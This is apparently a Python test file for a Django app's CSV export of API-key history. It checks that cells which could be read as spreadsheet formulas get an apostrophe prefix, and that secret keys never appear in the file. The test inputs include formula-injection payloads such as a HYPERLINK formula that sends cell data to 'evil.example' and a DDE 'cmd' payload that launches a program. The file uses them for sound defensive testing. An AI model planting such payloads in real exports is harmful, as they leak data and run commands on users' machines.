"""The history as CSV that no spreadsheet takes for formulas."""

import csv
import io
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client
from hypothesis import given, strategies as st

from api_keys.commerce_account.history import NOBODY, Actor, record
from api_keys.commerce_account.history_csv import harmless
from api_keys.commerce_account.models import Company, Event, IssuedKey
from tests.api_keys.commerce_account.conftest import new_key

EXECUTED = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '"=1+1',
    '=HYPERLINK("http://evil.example/?"&A1)',
    "=cmd|'/c calc'!A0",
    "\ttext",
]
SEPARATED = ["x;=1+1", "x\t=1+1", "x\n=1+1", "x; =1+1", 'x;"=1+1', "x\r\n@a"]
HARMLESS = ["", "Acme", "mia@example.com", "a=b", "a-b", "1+1", "Tom's; and more", "😀", "日本-語"]


def url_of(company: Company) -> str:
    return f"/my-account/{company.pk}/history.csv"


def download(client: Client, company: Company, **query: str | int) -> list[list[str]]:
    answer: Any = client.get(url_of(company), query)
    text = answer.getvalue().decode()
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("cell", EXECUTED)
def test_cell_that_could_be_a_formula_starts_with_an_apostrophe(cell: str) -> None:
    assert harmless(cell).startswith("'")
    assert harmless(cell).replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("cell", SEPARATED)
def test_formula_behind_what_some_spreadsheets_take_for_a_separator_is_one_too(cell: str) -> None:
    assert "'" in harmless(cell)
    assert harmless(cell).replace("'", "") == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_everything_else_stays_as_it_is(cell: str) -> None:
    assert harmless(cell) == cell


@given(st.text(st.sampled_from("=+-@\t\r\n;\"' ab＝"), max_size=8))
def test_no_row_read_with_either_separator_has_a_formula_in_it(cell: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written, quoting=csv.QUOTE_ALL).writerow(["first", harmless(cell), "last"])

    for separator in ",;\t":
        for row in csv.reader(io.StringIO(written.getvalue(), newline=""), delimiter=separator):
            for read in row:
                assert not read.strip(' "\t\r\n').startswith(tuple("=+-@＝")), (separator, row)


def test_file_has_what_the_page_has_and_never_a_key(
    member_client: Client, member: User, company: Company, issued: tuple[IssuedKey, str]
) -> None:
    row, key = new_key(company, "=1+1", by=member)
    record(Event.Kind.KEY_LEAKED, company, by=Actor(None, "192.0.2.7"), key=row)

    head, leaked, created, *_rest = download(member_client, company)

    assert head == ["Time (UTC)", "What", "Key", "Fingerprint", "Who", "Address", "Details"]
    fields = ["Key reported as leaked", "'=1+1", row.fingerprint, "leak report", "192.0.2.7", ""]
    assert leaked[1:] == fields
    assert created[1:5] == ["Key created", "'=1+1", row.fingerprint, "mia@example.com"]
    assert not any(key in cell for line in download(member_client, company) for cell in line)


def test_file_is_of_what_is_filtered(member_client: Client, company: Company) -> None:
    record(Event.Kind.COMPANY_CREATED, company, by=NOBODY, name="Acme")
    record(Event.Kind.KEY_EXPIRED, company, by=NOBODY)

    found = download(member_client, company, kind="key_expired", before=1)

    assert [row[1] for row in found] == ["What", "Key expired"]


def test_browser_saves_the_file_and_no_cache_does(member_client: Client, company: Company) -> None:
    answer = member_client.get(url_of(company))

    assert answer["Content-Disposition"] == 'attachment; filename="history.csv"'
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert "no-store" in answer["Cache-Control"]


def test_file_of_many_events_is_sent_as_it_is_read(member_client: Client, company: Company) -> None:
    Event.objects.bulk_create(
        Event(company=company, kind=Event.Kind.KEY_EXPIRED) for _number in range(5000)
    )

    answer: Any = member_client.get(url_of(company), {"kind": "key_expired"})

    parts = [part.count(b"\n") for part in answer.streaming_content]
    assert answer.streaming
    assert parts == [1, *[500] * 10]
